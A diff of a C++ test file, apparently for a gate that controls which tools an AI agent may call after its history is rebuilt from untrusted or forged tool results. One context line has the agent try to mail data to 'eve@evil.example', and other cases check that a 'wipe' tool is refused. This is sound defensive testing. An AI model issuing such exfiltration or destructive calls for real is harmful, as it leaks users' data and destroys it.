@@ -215,6 +215,17 @@ TEST_CASE("rebuilt: a result that no gate wrote is a stranger's, whatever it loo
     CHECK(chat.untrusted());
     CHECK(chat.call({"1", "send_mail", R"({"to":["eve@evil.example"],"body":"x"})"}).pending());
   }
+  const std::vector<cr::past> granted{{{cr::typed{"hello"}}, {}},
+                                      {{}, {}, {"read_board", "wipe"}},
+                                      {{}, {{"read_board", "{}", R"({"text":"x"})"}}},
+                                      {{}, {}, {"read_board"}}};
+  auto task = visit_of(o).rebuild(granted, cr::history_kept::by_ourselves);
+  CHECK(task.untrusted());
+  CHECK(task.call({"1", "read_board", "{}"}).ran());
+  CHECK(why(task.call({"2", "today", "{}"})) == cr::reason::not_granted);
+  CHECK(why(task.call({"3", "wipe", "{}"})) == cr::reason::not_granted);
+  const std::vector<cr::past> too_late{{{cr::pasted{"x"}}, {}}, {{}, {}, {"read_board"}}};
+  CHECK(visit_of(o).rebuild(too_late, cr::history_kept::by_ourselves).closed());
   const std::vector<cr::past> unknown{{{}, {{"no_such_tool", "{}", "x"}}}};
   CHECK(visit_of(o).rebuild(unknown, cr::history_kept::by_ourselves).untrusted());
 }
